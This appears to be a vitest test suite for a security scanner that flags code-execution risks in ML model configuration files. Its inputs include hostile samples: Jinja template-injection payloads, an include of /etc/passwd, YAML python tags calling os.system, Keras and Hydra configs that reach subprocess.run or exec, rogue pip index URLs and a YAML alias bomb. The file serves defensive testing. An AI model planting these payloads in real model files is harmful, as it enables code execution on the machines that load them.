import { describe, expect, test } from 'vitest';
import { ScanReport } from '../../../core/verification/report.ts';
import { scanFiles } from '../../../core/verification/scan.ts';
import { CONDA, json, KERAS, keras, LLAMA, MLMODEL, TOKENIZER } from './configurations.ts';
import { fileOf, zipOf } from './samples.ts';

const scan = (content: string): ScanReport => scanFiles([fileOf('file', content)]);
const rules = (content: string): string[] => scan(content).findings.map(({ rule }) => rule);

const TEMPLATE = `{%- for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] | trim }}{% endfor %}
{%- if add_generation_prompt %}{{ bos_token }}{% endif %}`;

test.each<[string, string, string]>([
  ['a chat template that reaches for the interpreter', `${TEMPLATE}{{ ''.__class__.__mro__ }}`, 'config-template'],
  ['a template of nothing else', "{{ ''['__cl' ~ 'ass__'] }}", 'config-template'],
  ['one by a name of Flask', '{{ lipsum.x("id") }}', 'config-template'],
  ['a chat template with another template', `${TEMPLATE}{% include "/etc/passwd" %}`, 'config-template'],
  ['a template that closes its braces in a text', "{{ '}}'.__class__ }}", 'config-template'],
  ['one behind braces of a comment', `{# {{ " #}{{ 0 ~ "" ~ "x" ~ x.__class__ }}`, 'config-template'],
  ['one that is JSON, too', '["{{ ", "~x.__class__~", " }}"]', 'config-template'],
  ['one with a test and a number', '{% set a = 1e5 %}{{ a is divisibleby 3 and a.__class__ }}', 'config-template'],
  ['one that is cut', '{% if a is not divisibleby 3 and a.__class__', 'config-template'],
  ['a template that is YAML, too', "chat_template: {{ ''.__class__ }}", 'config-template'],
  ['a model card that asks for code', '---\ntags:\n- custom_code\n---\n# Model\n', 'config-remote-code'],
  ['a model card with a configuration', '---\nauto_map:\n  AutoModel: m.M\n---\n', 'config-remote-code'],
])('%s in a file of its own is a finding', (_, text, rule) => {
  expect(rules(text)).toContain(rule);
});

test('a large text with a template is not scanned, and one without is text', () => {
  const large = 'words and words\n'.repeat(80_000);
  expect(scan(`${large}{{ ''.__class__ }}`)).toMatchObject({ verdict: 'unscanned', files: [{ reason: 'too_large' }] });
  expect(scan(`${large}{{ a }}`).verdict).toBe('clean');
});

test.each<[string, string, string | null]>([
  ['the first', '{"auto_map": {"AutoModel": "m.M"}, "auto_map": {}}', 'config-remote-code'],
  ['the last', '{"auto_map": {}, "auto_map": {"AutoModel": "m.M"}}', 'config-remote-code'],
  ['one that is spelled otherwise', '{"auto\\u005fmap": {"AutoModel": "m.M"}, "auto_map": {}}', 'config-remote-code'],
  [
    'the module of a class',
    '{"class_name": "D", "module": "os", "module": "keras.layers", "config": {}}',
    'keras-import',
  ],
  ['one deep inside', '{"a": [{"trust_remote_code": true, "trust_remote_code": false}]}', 'config-remote-code'],
  ['one beside a comment', '{"auto_map": {"A": "m.M"}, /* x */ "auto_map": {},}', 'config-remote-code'],
  ['one of YAML', 'auto_map:\n  AutoModel: m.M\nauto_map: {}\n', 'config-remote-code'],
  ['one of YAML that an alias names', 'x: &k auto_map\n? *k\n: {A: m.M}\n? *k\n: {}\n', 'config-remote-code'],
  [
    'one of a large file',
    `{"auto_map": {"A": "m.M"}, "auto_map": {}, "b": "${'x'.repeat(70_000)}"}`,
    'config-remote-code',
  ],
  [
    'a large file with the parts of the other',
    `{"peft_type": "LORA", "auto_mapping": {"parent_library": "os", "parent_library": "transformers"}, "b": "${'x'.repeat(70_000)}"}`,
    'config-import',
  ],
  ['nothing that is asked for', '{"auto_map": {}, "model_type": "bert", "model_type": "gpt2"}', null],
])('of a key that stands there twice each value is judged: %s', (_, text, rule) => {
  expect([...new Set(rules(text))]).toEqual(rule === null ? [] : [rule]);
});

describe('configurations without code of their own', () => {
  test.each([
    ['config.json', json(LLAMA)],
    ['tokenizer_config.json', json(TOKENIZER)],
    ['generation_config.json', json({ eos_token_id: 2, transformers_version: '4.44.0' })],
    ['an optimizer of PyTorch by its full name', json({ optimizer: { _target_: 'torch.optim.AdamW', lr: 0.1 } })],
    [
      'what Hydra writes of itself',
      'hydra:\n  sweeper:\n    _target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper\n',
    ],
    ['a dense layer of sentence-transformers', json({ activation_function: 'torch.nn.modules.activation.Tanh' })],
    ['an activation by name', json({ activation_function: 'gelu_new', target: 'label', class_path: 'a/b.csv' })],
    [
      'objects of skops',
      json([
        { __class__: 'dict', __module__: 'builtins', __loader__: 'DictNode' },
        { __class__: 'RandomState', __module__: 'numpy.random.mtrand', __loader__: 'RandomStateNode' },
        { __class__: 'LinearRegression', __module__: 'sklearn.linear_model._base', __loader__: 'ObjectNode' },
        { __class__: 'log1p', __module__: 'numpy', __loader__: 'FunctionNode' },
      ]),
    ],
    ['a tag in a text of JSON', json({ a: '!!python/object/apply:os.system', class_name: 'x' })],
    ['kernels by name', json({ attn_implementation: { text: 'sdpa', vision: ['eager'] } })],
    ['a handler that is part of TorchServe', json({ modelName: 'a', handler: 'image_classifier' })],
    ['a key lc of another kind', json({ lc: 3, type: 'constructor', id: 7, handler: 'a.b' })],
    ['an empty auto_map', json({ ...LLAMA, auto_map: {} })],
    ['remote code that is off', json({ ...LLAMA, trust_remote_code: false })],
    [
      'modules.json of sentence-transformers',
      json([
        { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
        { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
      ]),
    ],
    [
      'model_index.json of diffusers',
      json({
        _class_name: 'StableDiffusionPipeline',
        _diffusers_version: '0.30.0',
        unet: ['diffusers', 'UNet2DConditionModel'],
        text_encoder: ['transformers', 'CLIPTextModel'],
        safety_checker: [null, null],
        image_size: [64, 64],
      }),
    ],
    ['adapter_config.json of PEFT', json({ auto_mapping: null, peft_type: 'LORA', r: 8 })],
    ['chat_template.jinja', TEMPLATE],
    ['a text with braces', 'In LaTeX {{\\bf open self os}} and in a workflow ${{ runner.os }} mean other things.\n'],
    [
      'a model card',
      `---\nlicense: mit\ntags:\n- text-generation\n---\n# Model\n\nWith trust_remote_code=True it runs.\n`,
    ],
    ['MLmodel', MLMODEL],
    ['conda.yaml', CONDA],
    ['python_env.yaml', 'python: 3.12.3\nbuild_dependencies:\n- pip==24.0\ndependencies:\n- -r requirements.txt\n'],
    ['requirements', 'mlflow==2.14.1\nscikit-learn[all]>=1.5 ; python_version < "3.13"  # pinned\n'],
    ['requirements with hashes', 'numpy==2.0.0 \\\n    --hash=sha256:00ff \\\n    --hash=sha256:ff00\n'],
    ['a model card', '---\nlicense: mit\ntags:\n- text\n---\n# Model\n\n    pip install -e .\n\nSet auto_map: yes.\n'],
    ['prose with braces and names of Python', json({ system: 'Use {{ name }} and `__init__` in Python.' })],
    ['a description of a package', 'prefix=/usr\n\nName: numpy\nVersion: 2.4.6\n'],
    [
      'operators of Keras 2',
      json({
        class_name: 'Functional',
        config: {
          layers: ['reshape', 'math.log', 'compat.v1.transpose', 'nn.relu6', '__operators__.add'].map((name) => ({
            class_name: 'TFOpLambda',
            config: { name: 'a', function: name },
          })),
        },
      }),
    ],
    ['a list of addresses', 'https://example.org/a.png\nhttps://example.org/b.png\n'],
    ['a list of paths', './a/b.png\n./c.png\n'],
    ['a list in Markdown', '- one\n- two\n'],
    ['a table with a column class_name', 'class_name,module\ncat,os\ndog,sys\n'],
    ['a plain tag of YAML', 'shape: !!python/tuple [1, 2]\n'],
    ['a vocabulary that gives auto_map a number', json({ auto_map: 5, trust: 6 })],
    [
      'a model of diffusers with two blocks',
      json({
        _class_name: 'UNet2DModel',
        _diffusers_version: '0.35.0',
        down_block_types: ['DownBlock2D', 'DownBlock2D'],
        up_block_types: ['UpBlock2D', 'UpBlock2D'],
      }),
    ],
    ['a vocabulary with braces', JSON.stringify({ '<mask>': 0, '{{': 1, __class__: 2, '}}': 3, '{%': 4, __init__: 5 })],
    ['one that is indented', json({ '{{': 1, '!!python/object': 2, __class__: 3, messages: 4 })],
    ['a vocabulary of lines', '[PAD]\n{{\nthe\nmessages\n##ing\n__class__\n}}\n{%\nand\n(\nof\n__init__\n'],
    ['merges', '#version: 0.2\n\u0120 {{\n\u0120 import\n__ class__\n\u0120 __class__\n'],
    ['a model of Keras', json(KERAS)],
    [
      'a model of Keras 2',
      json({
        class_name: 'Sequential',
        config: { layers: [{ class_name: 'Dense', config: {} }] },
        backend: 'tensorflow',
      }),
    ],
  ])('are clean: %s', (_, content) => {
    expect(scan(content)).toMatchObject({ verdict: 'clean', findings: [] });
  });
});

describe('what makes a library load code is a finding', () => {
  test.each<[string, unknown, string]>([
    ['auto_map', { ...LLAMA, auto_map: { AutoModel: 'modeling.Model' } }, 'config-remote-code'],
    ['auto_map of another repository', { auto_map: { AutoModel: 'evil/repo--modeling.Model' } }, 'config-remote-code'],
    [
      'auto_map in a nested configuration',
      { vision_config: { auto_map: { AutoConfig: 'a.B' } } },
      'config-remote-code',
    ],
    ['custom_pipelines', { custom_pipelines: { evil: { impl: 'evil.Pipeline' } } }, 'config-remote-code'],
    ['trust_remote_code', { trust_remote_code: true }, 'config-remote-code'],
    ['a tokenizer by path', { tokenizer_class: '../evil.Tokenizer' }, 'config-remote-code'],
    ['a kernel from the hub', { _attn_implementation: 'evil/kernel' }, 'config-remote-code'],
    ['a chat template', { chat_template: "{{ ''.__class__.__mro__ }}" }, 'config-template'],
    [
      'one of several chat templates',
      { chat_template: [{ name: 'tool_use', template: '{{ cycler.__init__.__globals__ }}' }] },
      'config-template',
    ],
    ['a chat template by name', { chat_template: { a: { b: '{{ x.__globals__ }}' } } }, 'config-template'],
    ['a module by name', [{ idx: 0, path: '', type: 'evil.Module' }], 'config-import'],
    [
      'a module outside of the folder',
      [{ idx: 0, path: '../../x', type: 'sentence_transformers.models.Transformer' }],
      'config-path',
    ],
    ['a component by file', { _diffusers_version: '1', unet: ['my_unet', 'Unet'] }, 'config-remote-code'],
    ['a pipeline by file', { _diffusers_version: '1', _class_name: ['pipeline', 'P'] }, 'config-remote-code'],
    ['a pipeline by name', { custom_pipeline: 'evil/pipeline' }, 'config-remote-code'],
    ['remote code that is allowed in words', { trust_remote_code: 'True' }, 'config-remote-code'],
    ['a kernel for a part of the model', { attn_implementation: { text: 'evil/kernel' } }, 'config-remote-code'],
    ['a kernel in a list', { attn_implementation: ['sdpa', ['evil/kernel']] }, 'config-remote-code'],
    [
      'an object of LangChain',
      { lc: 1, type: 'constructor', id: ['langchain', 'chains', 'X'], kwargs: {} },
      'config-import',
    ],
    ['a secret of LangChain', { a: [{ lc: 1, type: 'secret', id: ['TOKEN'] }] }, 'config-import'],
    [
      'a handler of TorchServe',
      { model: { modelName: 'a', serializedFile: 'a.pt', handler: 'evil.py' } },
      'config-import',
    ],
    ['an object of Hydra', { encoder: { _target_: 'builtins.exec', _args_: ['1'] } }, 'config-import'],
    ['one that torch.nn reaches', { _target_: 'torch.nn.functional.torch.os.system' }, 'config-import'],
    ['an object of jsonargparse', { model: { class_path: 'os.system', init_args: {} } }, 'config-import'],
    ['an object of Stable Diffusion', { target: 'subprocess.run', params: { args: 'id' } }, 'config-import'],
    ['an activation by its full name', { activation_function: 'os.abort' }, 'config-import'],
    ['one of a cross-encoder', { sentence_transformers: { activation_fn: 'os.abort' } }, 'config-import'],
    ['a call of jsonpickle', { 'py/reduce': [{ 'py/type': 'os.system' }] }, 'config-import'],
    ['an object of jsonpickle', { a: [{ 'py/object': 'evil.Model' }] }, 'config-import'],
    ['a function of skops', { __class__: 'system', __module__: 'os', __loader__: 'FunctionNode' }, 'config-import'],
    [
      'a function of skops behind another name',
      {
        __class__: 'log',
        __module__: 'numpy',
        __loader__: 'FunctionNode',
        content: { module_path: 'os', function: 'system' },
      },
      'config-import',
    ],
    ['a method of skops', { __class__: 'a', __module__: 'builtins', __loader__: 'MethodNode' }, 'config-import'],
    ['a library of PEFT', { auto_mapping: { base_model_class: 'A', parent_library: 'os' } }, 'config-import'],
  ])('%s', (_, value, rule) => {
    expect(rules(json(value))).toContain(rule);
    expect(scan(json(value)).verdict).toBe('finding');
  });

  test('a key that is spelled with escapes', () => {
    expect(rules('{"auto\\u005fmap": {"AutoModel": "a.B"}}')).toContain('config-remote-code');
  });

  test('JSON with NaN, which Python reads', () => {
    expect(rules('{"a": NaN, "b": "NaN \\" [", "c": -Infinity, "auto_map": {"AutoModel": "a.B"}}')).toContain(
      'config-remote-code',
    );
  });

  test.each([
    ['with packages from an address', 'dependencies:\n- pip:\n  - git+https://example.com/x\n', 'unscanned'],
    ['with a loader', 'flavors:\n  python_function:\n    loader_module: evil\n', 'unscanned'],
    ['with a key for code', 'auto_map:\n  AutoModel: m.M\n', 'unscanned'],
    ['with packages by name', 'dependencies:\n- pip:\n  - numpy==2.0.0\n', 'clean'],
  ])('YAML of more items than are read %s is never wrongly clean', (_, text, verdict) => {
    expect(scan(`${text}other:\n${'- a\n'.repeat(20_000)}`).verdict).toBe(verdict);
  });

  test('a key far behind in a large file', () => {
    const padding = `{"a": "${' '.repeat(2 * 2 ** 20)}", `;
    expect(rules(`${padding}"auto_map": {"AutoModel": "a.B"}}`)).toEqual(['config-remote-code']);
    expect(scan(`${padding}"b": 1}`).verdict).toBe('clean');
  });

  test('in a plot that would be clean', () => {
    const plot = { $schema: 'https://vega.github.io/schema/vega-lite/v5.json', data: { values: [] } };
    expect(scan(json(plot)).verdict).toBe('clean');
    expect(scan(json({ ...plot, trust_remote_code: true })).verdict).toBe('finding');
  });
});

describe('of MLflow, a finding is', () => {
  test.each([
    ['a loader of its own', MLMODEL.replace('mlflow.sklearn', 'loader'), 'mlflow-code'],
    ['a loader below one of MLflow', MLMODEL.replace('mlflow.sklearn', 'mlflow.sklearn.evil'), 'mlflow-code'],
    ['a pickled model class', MLMODEL.replace('mlflow.sklearn', 'mlflow.pyfunc.model'), 'mlflow-code'],
    ['a folder of code', MLMODEL.replace('code: null', 'code: code'), 'mlflow-code'],
    ['a python_model', MLMODEL.replace('predict_fn: predict', 'python_model: python_model.pkl'), 'mlflow-code'],
    ['a model from code', `${MLMODEL}model_code_path: /tmp/model.py\n`, 'mlflow-code'],
    ['a model elsewhere', MLMODEL.replace('model_path: model.pkl', 'model_path: ../model.pkl'), 'config-path'],
    ['an escaped key', MLMODEL.replace('loader_module: mlflow.sklearn', '"loader\\x5fmodule": os'), 'mlflow-code'],
    ['an alias', `x: &x\n  loader_module: os\nflavors:\n  python_function: *x\n`, 'mlflow-code'],
    ['a merged mapping', `x: &x\n  loader_module: os\nflavors:\n  python_function:\n    <<: *x\n`, 'mlflow-code'],
    ['JSON', '{"flavors": {"python_function": {"loader_module": "os"}}}', 'mlflow-code'],
    ['YAML in braces', '{flavors: {python_function: {loader_module: os}}}', 'mlflow-code'],
    [
      'many aliases',
      `x: &a [1]\nz: [${Array(300).fill('*a').join(', ')}]\nflavors: {p: {loader_module: os}}\n`,
      'mlflow-code',
    ],
    ['a key over two lines', '"fla\\\n  vors":\n  p:\n    "loader_\\\n      module": os\n', 'mlflow-code'],
    ['braces that end where PyYAML lets them', 'flavors: {p: {loader_module: os\n}}\n', 'mlflow-code'],
    ['the last of equal keys', `flavors: {}\n${MLMODEL.replace('mlflow.sklearn', 'os')}`, 'mlflow-code'],
  ])('%s', (_, content, rule) => {
    expect(rules(content)).toContain(rule);
  });
});

describe('requirements from elsewhere are findings', () => {
  test.each([
    '--index-url https://evil.example/simple\nnumpy',
    '-i https://evil.example/simple',
    '--extra-index-url=https://evil.example/simple\nnumpy==1.0',
    '--find-links ./wheels\n',
    // pip takes the begin of an option's name for it.
    '--extra=https://evil.example/simple\nnumpy',
    '--index-u https://evil.example/simple\nnumpy',
    '-e .',
    '-e git+https://evil.example/a.git#egg=a',
    'git+https://evil.example/a.git',
    'numpy @ https://evil.example/numpy.whl',
    'numpy@https://evil.example/numpy.whl',
    'numpy [all] @ git+ssh://evil.example/numpy',
    'numpy==1.0\nhttps://evil.example/numpy.whl',
    'numpy==1.0\n./numpy.whl',
    '--requirement https://evil.example/r.txt\n',
    '-r ../r.txt',
    'numpy==1.0 \\\n --hash=sha256:00\n--trusted-host evil.example',
  ])('%j', (content) => {
    expect(rules(content)).toEqual(['requirements-source']);
  });

  test('and in an environment of conda', () => {
    expect(rules(CONDA.replace('- mlflow==2.14.1', '- git+https://evil.example/a.git'))).toEqual([
      'requirements-source',
    ]);
  });
});

test.each([
  'a: !!python/object/apply:os.system ["id"]\n',
  'a: !!python/name:os.system\n',
  'a: !<tag:yaml.org,2002:python/object/new:os.system> []\n',
  '%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ["id"]\n',
  'a: !!%70ython/object/apply:os.system ["id"]\n',
  '{a: !!python/object/apply:os.system ["id"]}\n',
  'a: !<tag:yaml%2Eorg,2002:python/object/apply:os.system> ["id"]\n',
  'a: !apply:os.system [id]\n',
  'a: !new:subprocess.Popen [id]\n',
])('YAML that makes Python objects is a finding: %j', (content) => {
  expect(rules(content)).toContain('yaml-python-tag');
});

describe('of Keras, a finding is', () => {
  const layer = (more: object): object => ({ module: 'keras.layers', class_name: 'Dense', config: {}, ...more });
  test.each<[string, unknown, string]>([
    ['a Lambda', layer({ class_name: 'Lambda' }), 'keras-lambda'],
    ['a lambda in a value', { class_name: '__lambda__', config: { value: 'marshal' } }, 'keras-lambda'],
    ['a class of another module', layer({ module: 'os', class_name: 'System' }), 'keras-import'],
    [
      'a function of another module (CVE-2025-1550)',
      { module: 'subprocess', class_name: 'function', config: 'run', registered_name: 'function' },
      'keras-import',
    ],
    [
      'get_file (CVE-2025-8747)',
      { module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: 'get_file' },
      'keras-import',
    ],
    [
      'unsafe deserialization (CVE-2025-9906)',
      { module: 'keras.config', class_name: 'function', config: 'enable_unsafe_deserialization' },
      'keras-import',
    ],
    [
      'a function by an unknown name',
      { module: 'builtins', class_name: 'function', config: 'exec' },
      'keras-custom-object',
    ],
    ['a prefix that is none', layer({ module: 'keras.layersevil' }), 'keras-import'],
    ['a module below', layer({ module: 'keras.layers.evil' }), 'keras-import'],
    ['a module that is no text', layer({ module: ['keras'] }), 'keras-import'],
    ['a registered object', layer({ registered_name: 'pkg>Dense' }), 'keras-custom-object'],
    ['a function as class', layer({ class_name: 'deserialize' }), 'keras-custom-object'],
    ['a SavedModel beside', layer({ class_name: 'TFSMLayer' }), 'keras-loader'],
    ['a module of torch (CVE-2025-49655)', layer({ class_name: 'TorchModuleWrapper' }), 'keras-loader'],
    [
      'a vocabulary in a file (CVE-2025-12058)',
      layer({ class_name: 'StringLookup', config: { vocabulary: '/etc/passwd' } }),
      'keras-loader',
    ],
    [
      'an operator that reads under its old name',
      { class_name: 'TFOpLambda', config: { function: 'compat.v1.io.read_file' } },
      'keras-loader',
    ],
    [
      'an operator that calls what it is given',
      { class_name: 'TFOpLambda', config: { function: 'map_fn' } },
      'keras-loader',
    ],
    ['an operator that writes', { class_name: 'TFOpLambda', config: { function: 'io.write_file' } }, 'keras-loader'],
    ['an object in a plain mapping', { a: [{ b: layer({ module: 'os' }) }] }, 'keras-import'],
  ])('%s', (_, value, rule) => {
    expect(rules(keras(value))).toContain(rule);
  });

  test('an object outside of any model', () => {
    expect(rules(json([{ module: 'os', class_name: 'function', config: 'system' }]))).toContain('keras-import');
  });

  test('the configuration in an archive', () => {
    const archive = zipOf([{ name: 'config.json', content: keras(layer({ class_name: 'Lambda' })) }]);
    expect(scanFiles([fileOf('model.keras', archive)]).findings).toMatchObject([
      { rule: 'keras-lambda', file: 'model.keras!/config.json' },
    ]);
  });
});

test('nesting without end ends in a report', () => {
  const deep = `${'{"class_name": "Dense", "module": "os", "config": '.repeat(20_000)}1${'}'.repeat(20_000)}`;
  expect(ScanReport.parse(scan(deep)).files).toHaveLength(1);
  expect(ScanReport.parse(scan(`auto_map: ${'['.repeat(5000)}`)).files).toHaveLength(1);
  const bomb = `flavors: &a [x, x]\n${[...'bcdefghijk'].map((k, i) => `${k}: &${k} [*${'abcdefghij'[i]}, *${'abcdefghij'[i]}]\n`).join('')}`;
  expect(ScanReport.parse(scan(bomb)).files).toHaveLength(1);
});
